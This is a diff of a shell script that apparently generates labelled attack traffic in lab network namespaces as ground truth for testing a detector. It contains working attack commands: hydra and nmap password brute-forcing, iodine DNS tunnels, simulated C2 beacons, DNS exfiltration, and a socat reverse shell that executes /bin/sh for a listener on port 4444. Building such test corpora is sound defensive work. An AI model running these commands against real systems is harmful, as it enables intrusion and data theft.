@@ -184,7 +184,7 @@ for i in $(seq 1 40); do echo "wrong-$i"; done >"$tmp/words"
 head -12 "$tmp/words" >"$tmp/words12"
 sleep 2
 
-# ---------------------------------------------------------------- scans
+# ---------------------------------------------------------------- scenario helpers
 scan() { # NAME TARGET PORTS NMAP-ARGS...: a port_scan of TARGET from 10.70.0.10
   local name=$1 target=$2 ports=$3 kind=${KIND:-port_scan}; shift 3
   capture_start "$name"
@@ -193,6 +193,60 @@ scan() { # NAME TARGET PORTS NMAP-ARGS...: a port_scan of TARGET from 10.70.0.10
   truth "$name" "$kind" "${SRC:-10.70.0.10}" "$target" "" "$t0" "$(now)"
   capture_stop "$name"
 }
+sweep() { # NAME KIND TARGETS-LIST NMAP-ARGS...
+  local name=$1 kind=$2 list=$3; shift 3
+  capture_start "$name"
+  local t0; t0=$(now)
+  ra nmap -n "$@" >/dev/null 2>&1 || true
+  truth "$name" "$kind" 10.70.0.10 "$list/sweep" "" "$t0" "$(now)"
+  capture_stop "$name"
+}
+brute() { # NAME DST PORT TOOL-ARGS...
+  local name=$1 dst=$2 port=$3; shift 3
+  capture_start "$name"
+  local t0; t0=$(now)
+  ra "$@" >/dev/null 2>&1 || true
+  truth "$name" brute_force 10.70.0.10 "$dst" "$port" "$t0" "$(now)"
+  capture_stop "$name"
+}
+dnsrun() { # NAME KIND SECONDS CMD...
+  local name=$1 kind=$2 secs=$3; shift 3
+  capture_start "$name" udp port 53
+  local t0; t0=$(now)
+  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
+  truth "$name" "$kind" 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
+  capture_stop "$name"
+}
+iodine_run() { # NAME ARGS...
+  local name=$1; shift
+  capture_start "$name" udp port 53
+  local t0; t0=$(now)
+  ra iodine -f -r -m 700 -P s3cretpw "$@" 10.70.0.20 tun.example >"$tmp/$name.log" 2>&1 & local io=$!
+  for _ in $(seq 1 30); do grep -q "setup complete" "$tmp/$name.log" && break; sleep 1; done
+  ra ping -c 30 -i 0.2 -s 400 172.30.0.1 >/dev/null 2>&1 || true
+  kill "$io" 2>/dev/null; wait "$io" 2>/dev/null || true
+  truth "$name" dns_tunnel 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
+  capture_stop "$name"
+}
+beacon() { # NAME SRC DST PORT INTERVAL JITTER COUNT tls|plain [DILATE]
+  local name=$1 src=$2 dst=$3 port=$4 iv=$5 jit=$6 n=$7 mode=$8 factor=${9:-1}
+  (
+    capture_start "$name" host "$dst"
+    t0=$(now)
+    ra $H http_beacon "$dst" "$port" "$iv" "$jit" "$n" "$mode"
+    truth "$name" beacon "$src" "$dst" "$port" "$t0" "$(now)"
+    capture_stop "$name" "$factor"
+  ) & bpids+=($!)
+}
+benign() { # NAME SECONDS CMD...
+  local name=$1 secs=$2; shift 2
+  capture_start "$name"
+  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
+  capture_stop "$name"
+}
+
+if [ -z "${ROUND2_ONLY:-}" ]; then
+# ---------------------------------------------------------------- scans
 scan nmap-syn 10.70.0.20 "" -sS -p 1-300
 scan nmap-connect 10.70.0.20 "" -sT -p 1-300
 scan nmap-fin 10.70.0.20 "" -sF -p 1-300
@@ -205,14 +259,6 @@ scan nmap-ipproto 10.70.0.20 "" -sO
 SRC=fd70::10 scan nmap-ipv6 fd70::20 "" -6 -sS -p 1-300
 SRC=198.51.100.10 scan nmap-public 203.0.113.20 "" -sS -p 1-300 -S 198.51.100.10 -e va
 
-sweep() { # NAME KIND TARGETS-LIST NMAP-ARGS...
-  local name=$1 kind=$2 list=$3; shift 3
-  capture_start "$name"
-  local t0; t0=$(now)
-  ra nmap -n "$@" >/dev/null 2>&1 || true
-  truth "$name" "$kind" 10.70.0.10 "$list/sweep" "" "$t0" "$(now)"
-  capture_stop "$name"
-}
 # A small fast sweep: 14 consecutive addresses, nothing answers.
 sweep ping-sweep-small ping_sweep "$(seq -s, -f 10.71.0.%g 1 14)" -sn -PE --send-ip --max-retries 0 10.71.0.1-14
 sweep ping-sweep-timestamp ping_sweep "$(seq -s, -f 10.71.0.%g 1 40)" -sn -PP --send-ip --max-retries 0 10.71.0.1-40
@@ -247,14 +293,6 @@ truth slow-scan slow_scan 10.70.0.10 10.70.0.26 "" "$t0" "$(now)"
 capture_stop slow-scan 12
 
 # ---------------------------------------------------------------- password guessing
-brute() { # NAME DST PORT TOOL-ARGS...
-  local name=$1 dst=$2 port=$3; shift 3
-  capture_start "$name"
-  local t0; t0=$(now)
-  ra "$@" >/dev/null 2>&1 || true
-  truth "$name" brute_force 10.70.0.10 "$dst" "$port" "$t0" "$(now)"
-  capture_stop "$name"
-}
 brute hydra-ssh 10.70.0.20 22 hydra -l alice -P "$tmp/words" -t 4 -I ssh://10.70.0.20
 brute hydra-ssh-2222 10.70.0.20 2222 hydra -l alice -P "$tmp/words" -t 4 -I -s 2222 ssh://10.70.0.20
 brute medusa-ftp 10.70.0.20 21 medusa -M ftp -h 10.70.0.20 -u alice -P "$tmp/words" -t 4
@@ -262,25 +300,6 @@ brute hydra-ftp-2121 10.70.0.20 2121 hydra -l alice -P "$tmp/words" -t 4 -I -s 2
 brute ncrack-telnet 10.70.0.20 23 ncrack --user alice -P "$tmp/words12" -T5 telnet://10.70.0.20:23
 
 # ---------------------------------------------------------------- DNS tunnels, C2 over DNS, DGA
-dnsrun() { # NAME KIND SECONDS CMD...
-  local name=$1 kind=$2 secs=$3; shift 3
-  capture_start "$name" udp port 53
-  local t0; t0=$(now)
-  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
-  truth "$name" "$kind" 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
-  capture_stop "$name"
-}
-iodine_run() { # NAME ARGS...
-  local name=$1; shift
-  capture_start "$name" udp port 53
-  local t0; t0=$(now)
-  ra iodine -f -r -m 700 -P s3cretpw "$@" 10.70.0.20 tun.example >"$tmp/$name.log" 2>&1 & local io=$!
-  for _ in $(seq 1 30); do grep -q "setup complete" "$tmp/$name.log" && break; sleep 1; done
-  ra ping -c 30 -i 0.2 -s 400 172.30.0.1 >/dev/null 2>&1 || true
-  kill "$io" 2>/dev/null; wait "$io" 2>/dev/null || true
-  truth "$name" dns_tunnel 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
-  capture_stop "$name"
-}
 iodine_run iodine-null-raw -T NULL -O raw
 iodine_run iodine-txt-base32 -T TXT -O base32
 iodine_run iodine-cname-base64 -T CNAME -O base64
@@ -303,16 +322,6 @@ dnsrun dga-nxdomain dga 60 $H dga 10.70.0.20 80 0.05
 
 # ---------------------------------------------------------------- beacons and outbound (in parallel)
 bpids=()
-beacon() { # NAME SRC DST PORT INTERVAL JITTER COUNT tls|plain [DILATE]
-  local name=$1 src=$2 dst=$3 port=$4 iv=$5 jit=$6 n=$7 mode=$8 factor=${9:-1}
-  (
-    capture_start "$name" host "$dst"
-    t0=$(now)
-    ra $H http_beacon "$dst" "$port" "$iv" "$jit" "$n" "$mode"
-    truth "$name" beacon "$src" "$dst" "$port" "$t0" "$(now)"
-    capture_stop "$name" "$factor"
-  ) & bpids+=($!)
-}
 beacon beacon-http-2s 10.70.0.10 10.70.0.21 80 2 0 60 plain
 beacon beacon-https-2s-public 198.51.100.10 203.0.113.22 443 2 0.2 60 tls
 beacon beacon-http-30s 10.70.0.10 10.70.0.23 80 2 0.1 40 plain 15
@@ -334,12 +343,6 @@ beacon beacon-https-300s-public 198.51.100.10 203.0.113.24 443 3 0.3 30 tls 100
 wait "${bpids[@]}"
 
 # ---------------------------------------------------------------- benign look-alikes (empty truth)
-benign() { # NAME SECONDS CMD...
-  local name=$1 secs=$2; shift 2
-  capture_start "$name"
-  ra timeout "$secs" "$@" >/dev/null 2>&1 || true
-  capture_stop "$name"
-}
 # A busy server: 200 clients (addresses of their own), a few requests each.
 for i in $(seq 1 200); do ip -n $A addr add 10.70.2.$i/16 dev va; done
 ip -n $V route add 10.70.2.0/24 dev vv
@@ -368,4 +371,82 @@ benign lan-chatter 40 $H chatter 10.70.0.10 30
 capture_start long-keepalive host 10.70.0.20 and port 7
 ra $H keepalive_idle 10.70.0.20 7 30 || true
 capture_stop long-keepalive 200
+fi
+
+# ---------------------------------------------------------------- round two (ROUND2_ONLY=1 records only these)
+# Password guessing that keeps its connections: every refusal counts, not every connection.
+rv $H login_server 0.0.0.0 110 pop3 & pids+=($!)
+rv $H login_server 0.0.0.0 143 imap & pids+=($!)
+mkdir -p "$tmp/smb/private" "$tmp/smb/lock" "$tmp/smb/state" "$tmp/smb/cache" "$tmp/smb/pid" "$tmp/share"
+cat >"$tmp/smb.conf" <<EOF
+[global]
+server role = standalone server
+interfaces = 10.70.0.20
+bind interfaces only = yes
+smb ports = 445
+server min protocol = NT1
+ntlm auth = yes
+disable netbios = yes
+passdb backend = tdbsam:$tmp/smb/private/passdb.tdb
+private dir = $tmp/smb/private
+lock directory = $tmp/smb/lock
+state directory = $tmp/smb/state
+cache directory = $tmp/smb/cache
+pid directory = $tmp/smb/pid
+log file = $tmp/smb/log
+[share]
+path = $tmp/share
+EOF
+printf 'Corr3ct-Horse-Battery\nCorr3ct-Horse-Battery\n' | smbpasswd -c "$tmp/smb.conf" -a -s alice >/dev/null
+rv smbd --foreground --no-process-group -s "$tmp/smb.conf" & pids+=($!)
+printf 'alice\n' >"$tmp/users"
+sleep 3
+brute hydra-http-keepalive 10.70.0.20 80 hydra -l alice -P "$tmp/words" -t 1 -I http-get://10.70.0.20/admin
+brute hydra-pop3 10.70.0.20 110 hydra -l alice -P "$tmp/words" -t 1 -I pop3://10.70.0.20
+brute hydra-imap 10.70.0.20 143 hydra -l alice -P "$tmp/words" -t 1 -I imap://10.70.0.20
+# The password is the last guess: the alert says the login was accepted after the failures.
+{ cat "$tmp/words12"; echo Corr3ct-Horse-Battery; } >"$tmp/words-guessed"
+brute hydra-pop3-guessed 10.70.0.20 110 hydra -l alice -P "$tmp/words-guessed" -t 1 -I pop3://10.70.0.20
+brute nmap-smb-brute 10.70.0.20 445 nmap -n -p445 --script smb-brute --script-args "userdb=$tmp/users,passdb=$tmp/words,unpwdb.timelimit=0" 10.70.0.20
+
+# Sweeps whose positive answer is a RST (ACK ping) or an ICMP unreachable (UDP ping): 20 live
+# hosts among 50 addresses.
+sweep nmap-ack-sweep host_sweep "$(seq -s, -f 10.70.0.%g 100 119),$(seq -s, -f 10.71.0.%g 1 30)" -sn -PA80 --send-ip --max-retries 0 10.70.0.100-119 10.71.0.1-30
+sweep nmap-udp-sweep host_sweep "$(seq -s, -f 10.70.0.%g 100 119),$(seq -s, -f 10.71.0.%g 1 30)" -sn -PU --send-ip --max-retries 0 10.70.0.100-119 10.71.0.1-30
+
+# A reverse shell between two internal hosts: the victim (10.70.0.20) calls the attacker's
+# listener on 4444 and runs what it is sent.
+capture_start socat-revshell-internal host 10.70.0.10 and port 4444
+t0=$(now)
+ra bash -c '(sleep 2; echo id; sleep 1; echo "uname -a"; sleep 1; echo "ls /"; sleep 1; echo exit) | timeout 20 socat TCP-LISTEN:4444,reuseaddr - >/dev/null' & sh_pid=$!
+sleep 1
+rv timeout 20 socat TCP:10.70.0.10:4444 EXEC:/bin/sh >/dev/null 2>&1 || true
+wait $sh_pid 2>/dev/null || true
+truth socat-revshell-internal suspicious_outbound 10.70.0.20 10.70.0.10 4444 "$t0" "$(now)"
+capture_stop socat-revshell-internal
+
+# Thin DNS exfiltration: 12 names of about 220 bytes, one every second.
+dnsrun dns-exfil-long dns_tunnel 60 $H long_names 10.70.0.20 exf.example 12 1
+
+# Benign: IPsec ESP in transport mode between two public hosts (VPN-like), carrying web
+# requests and pings. Needs a kernel with ESP (xfrm esp4); where it has none, it is skipped.
+if ip -n $A xfrm state add src 192.0.2.1 dst 192.0.2.2 proto esp spi 0x1fff mode transport enc 'cbc(aes)' 0x$(openssl rand -hex 16) auth-trunc 'hmac(sha256)' 0x$(openssl rand -hex 32) 128 2>/dev/null; then
+ip -n $A xfrm state flush
+enc=0x$(openssl rand -hex 16) auth=0x$(openssl rand -hex 32)
+for ns in $A $V; do
+  for dir in "198.51.100.10 203.0.113.21 0x1001" "203.0.113.21 198.51.100.10 0x1002"; do
+    set -- $dir
+    ip -n $ns xfrm state add src "$1" dst "$2" proto esp spi "$3" reqid 1 mode transport enc 'cbc(aes)' "$enc" auth-trunc 'hmac(sha256)' "$auth" 128
+  done
+done
+ip -n $A xfrm policy add src 198.51.100.10 dst 203.0.113.21 dir out tmpl proto esp reqid 1 mode transport
+ip -n $A xfrm policy add src 203.0.113.21 dst 198.51.100.10 dir in tmpl proto esp reqid 1 mode transport
+ip -n $V xfrm policy add src 203.0.113.21 dst 198.51.100.10 dir out tmpl proto esp reqid 1 mode transport
+ip -n $V xfrm policy add src 198.51.100.10 dst 203.0.113.21 dir in tmpl proto esp reqid 1 mode transport
+benign ipsec-esp 60 bash -c 'for i in $(seq 1 20); do curl -s -o /dev/null http://203.0.113.21/vpn$i; ping -c 1 -W 1 203.0.113.21 >/dev/null; sleep 0.5; done'
+for ns in $A $V; do ip -n $ns xfrm policy flush; ip -n $ns xfrm state flush; done
+else
+  echo "skipped ipsec-esp: this kernel has no IPsec ESP (xfrm)" >&2
+fi
+
 echo "corpus in $out" >&2
